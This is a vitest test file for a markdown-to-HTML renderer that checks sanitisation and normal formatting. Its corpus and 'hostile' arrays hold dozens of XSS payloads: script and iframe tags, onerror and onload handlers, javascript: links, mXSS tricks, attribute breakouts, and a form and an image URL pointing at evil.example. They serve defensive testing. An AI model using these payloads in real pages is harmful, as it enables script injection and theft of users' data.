// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { markdownDocument } from '../../../testing/arbitraries/markdownArbitraries';
import { renderMarkdownEach, renderMarkdownToHtml } from './renderMarkdown';
import { isSafeLinkHref, SAFE_DATA_IMAGE } from './safeUrls';

function toFragment(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

function render(markdown: string): DocumentFragment {
  return toFragment(renderMarkdownToHtml(markdown));
}

const DANGEROUS_TAGS = [
  'script',
  'iframe',
  'svg',
  'math',
  'style',
  'form',
  'object',
  'embed',
  'link',
  'meta',
  'base',
];

/** Structural proof that nothing in the output can run code or load a foreign resource. */
function expectInert(fragment: DocumentFragment): void {
  for (const tag of DANGEROUS_TAGS) expect(fragment.querySelector(tag), `<${tag}> in output`).toBeNull();
  for (const element of fragment.querySelectorAll('*')) {
    for (const attr of element.attributes) {
      expect(attr.name.startsWith('on'), `${attr.name} on <${element.tagName}>`).toBe(false);
      expect(attr.name, `<${element.tagName}>`).not.toBe('style');
      expect(attr.name, `<${element.tagName}>`).not.toBe('srcset');
    }
    const href = element.getAttribute('href');
    if (href !== null) expect(isSafeLinkHref(href), `href ${href}`).toBe(true);
    const src = element.getAttribute('src');
    if (src !== null) expect(SAFE_DATA_IMAGE.test(src), `src ${src}`).toBe(true);
    if (element.tagName === 'INPUT') {
      expect(element.getAttribute('type')).toBe('checkbox');
      expect(element.hasAttribute('disabled')).toBe(true);
    }
  }
}

describe('renderMarkdownToHtml: untrusted input renders inert', () => {
  const corpus: [string, string][] = [
    ['script block', '<script>alert(1)</script>'],
    ['inline script', 'before <script>alert(1)</script> after'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['inline img onerror', 'hi <img src="x" onerror="alert(1)"> there'],
    ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
    ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['style block', '<style>body { display: none }</style>'],
    ['style attribute', '<p style="position:fixed;inset:0">cover</p>'],
    ['form', '<form action="https://evil.example"><input name="key"><button>Go</button></form>'],
    ['raw anchor', '<a href="javascript:alert(1)">click</a>'],
    ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
    ['object', '<object data="javascript:alert(1)"></object>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['mXSS math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['noscript trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['comment trick', '<!--><img src=x onerror=alert(1)>-->'],
    ['markdown javascript link', '[x](javascript:alert(1))'],
    ['markdown JAVASCRIPT link', '[x](JAVASCRIPT:alert(1))'],
    ['entity-encoded scheme', '[x](&#106;avascript:alert(1))'],
    ['vbscript link', '[x](vbscript:msgbox(1))'],
    ['data html link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['autolink javascript', '<javascript:alert(1)>'],
    ['reference link javascript', '[x][r]\n\n[r]: javascript:alert(1)'],
    ['title breakout', '[x](https://a.example "t\\" onmouseover=\\"alert(1)")'],
    ['image javascript', '![x](javascript:alert(1))'],
    ['image svg data', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
    ['image alt breakout', '![x" onerror="alert(1)](https://a.example/i.png)'],
    ['fence info breakout', '```"><img src=x onerror=alert(1)>\ncode\n```'],
    ['html inside table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
    ['html inside list', '- <script>alert(1)</script>\n- [x] <b onclick=alert(1)>b</b>'],
  ];

  it.each(corpus)('%s', (_label, markdown) => {
    expectInert(render(markdown));
  });

  it('shows raw HTML as visible text instead of dropping it', () => {
    const fragment = render('<script>alert(1)</script>\n\nhi <b onclick="x()">bold</b>');
    expect(fragment.textContent).toContain('<script>alert(1)</script>');
    expect(fragment.textContent).toContain('<b onclick="x()">bold</b>');
    expect(fragment.querySelector('b')).toBeNull();
  });

  it('keeps the text of a link whose target is unsafe, without an href', () => {
    const link = render('[click me](javascript:alert(1))').querySelector('a');
    expect(link?.textContent).toBe('click me');
    expect(link?.hasAttribute('href')).toBe(false);
  });

  it('does not load remote images: they become links', () => {
    const fragment = render('![diagram](https://evil.example/x.png?leak=secret)');
    expect(fragment.querySelector('img')).toBeNull();
    const link = fragment.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://evil.example/x.png?leak=secret');
    expect(link?.textContent).toBe('Image: diagram');
  });

  it('shows inline raster data images', () => {
    const img = render('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img');
    expect(img?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(img?.getAttribute('alt')).toBe('dot');
  });
});

describe('renderMarkdownToHtml: normal markdown', () => {
  it('renders headings, emphasis, strikethrough and blockquotes', () => {
    const fragment = render('# One\n\n## Two\n\n### Three\n\n**bold** _em_ ~~gone~~\n\n> quoted');
    expect(fragment.querySelector('h1')?.textContent).toBe('One');
    expect(fragment.querySelector('h2')?.textContent).toBe('Two');
    expect(fragment.querySelector('h3')?.textContent).toBe('Three');
    expect(fragment.querySelector('strong')?.textContent).toBe('bold');
    expect(fragment.querySelector('em')?.textContent).toBe('em');
    expect(fragment.querySelector('del')?.textContent).toBe('gone');
    expect(fragment.querySelector('blockquote')?.textContent?.trim()).toBe('quoted');
  });

  it('renders ordered, unordered and task lists', () => {
    const fragment = render('- a\n- b\n\n3. three\n4. four\n\n- [x] done\n- [ ] todo');
    const [ul] = fragment.querySelectorAll('ul');
    expect([...(ul?.querySelectorAll('li') ?? [])].map((li) => li.textContent)).toEqual(['a', 'b']);
    const ol = fragment.querySelector('ol');
    expect(ol?.getAttribute('start')).toBe('3');
    expect(ol?.querySelectorAll('li')).toHaveLength(2);
    const boxes = [...fragment.querySelectorAll('input')];
    expect(boxes.map((b) => b.hasAttribute('checked'))).toEqual([true, false]);
    expectInert(fragment);
  });

  it('wraps fenced code in a data-code-block element with a language class, escaped', () => {
    const fragment = render('```ts\nconst a = 1 < 2 && "<b>";\n```');
    const block = fragment.querySelector('[data-code-block]');
    expect(block?.getAttribute('data-language')).toBe('ts');
    const code = block?.querySelector('pre > code');
    expect(code?.className).toBe('language-ts');
    expect(code?.textContent).toBe('const a = 1 < 2 && "<b>";');
    expect(fragment.querySelector('b')).toBeNull();
  });

  it('labels fenced code with its language, and plain code not at all', () => {
    const fragment = render('```typescript\nlet a = 1;\n```\n\n```\nplain\n```');
    const blocks = fragment.querySelectorAll('[data-code-block]');
    expect(blocks[0]?.querySelector('.code-language')?.textContent).toBe('typescript');
    expect(blocks[1]?.querySelector('.code-language')).toBeNull();
  });

  it('puts each table in a focusable scroll box, and nothing else', () => {
    const fragment = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n`<table>` and ```</table>```');
    const box = fragment.querySelector('div.table-scroll');
    expect(box?.firstElementChild?.tagName).toBe('TABLE');
    expect(box?.getAttribute('tabindex')).toBe('0');
    expect(fragment.querySelectorAll('div.table-scroll')).toHaveLength(1);
    expect(fragment.querySelectorAll('table')).toHaveLength(1);
  });

  it('renders code without a language and indented code as code blocks', () => {
    const fragment = render('```\nplain\n```\n\n    indented');
    const blocks = fragment.querySelectorAll('[data-code-block]');
    expect(blocks).toHaveLength(2);
    expect(blocks[0]?.querySelector('code')?.hasAttribute('class')).toBe(false);
    expect(blocks[1]?.querySelector('code')?.textContent).toBe('indented');
  });

  it('uses only the first word of the fence info as language', () => {
    const code = render('```python title="x.py"\npass\n```').querySelector('code');
    expect(code?.className).toBe('language-python');
  });

  it('renders an unclosed fence (a reply still streaming) as code', () => {
    const code = render('Here:\n\n```js\nlet x').querySelector('[data-code-block] code');
    expect(code?.textContent).toBe('let x');
  });

  it('renders inline code escaped', () => {
    const code = render('use `<div>` here').querySelector('p > code');
    expect(code?.textContent).toBe('<div>');
  });

  it('renders GFM tables with alignment', () => {
    const fragment = render('| a | b |\n|:--|--:|\n| 1 | 2 |');
    expect([...fragment.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['a', 'b']);
    expect([...fragment.querySelectorAll('td')].map((td) => td.getAttribute('align'))).toEqual([
      'left',
      'right',
    ]);
  });

  it('opens links in a new tab without an opener', () => {
    const fragment = render(
      '[site](https://example.com "Title") and www.example.org and <https://x.example>',
    );
    const links = [...fragment.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com',
      'http://www.example.org',
      'https://x.example',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(links[0]?.getAttribute('title')).toBe('Title');
  });

  it('turns single newlines into line breaks', () => {
    expect(render('one\ntwo').querySelector('p')?.innerHTML).toBe('one<br>two');
  });

  it('returns an empty string for empty input', () => {
    expect(renderMarkdownToHtml('')).toBe('');
  });
});

describe('renderMarkdownEach', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '[x](javascript:alert(1))',
    '</div><img src=x onerror=alert(1)>',
    '<div><div>',
    '```html\n</div></div><b>\n```',
    '![a](data:image/svg+xml;base64,PHN2Zz4=)',
    '- [ ] task\n- [x] done',
    '| a | b |\n|---|---|\n| <i>1</i> | 2 |',
  ];

  it('gives each text exactly what rendering it alone gives, hostile ones included', () => {
    expect(renderMarkdownEach(hostile)).toEqual(hostile.map(renderMarkdownToHtml));
  });

  it('agrees with one-by-one rendering for generated markdown', () => {
    fc.assert(
      fc.property(fc.array(markdownDocument, { minLength: 1, maxLength: 6 }), (texts) => {
        expect(renderMarkdownEach(texts)).toEqual(texts.map(renderMarkdownToHtml));
      }),
      { numRuns: 50 },
    );
  }, 120_000);
});

describe('renderMarkdownToHtml: nesting', () => {
  it('renders a list nested deeper than the lexer may recurse as its text, not as 40 nested lists', () => {
    let text = '';
    for (let depth = 0; depth < 40; depth++) text += `${'  '.repeat(depth)}- item ${depth}\n`;
    const fragment = render(text);
    expect(fragment.querySelectorAll('ul')).toHaveLength(0);
    expect(fragment.textContent).toContain('- item 39');
  });
});
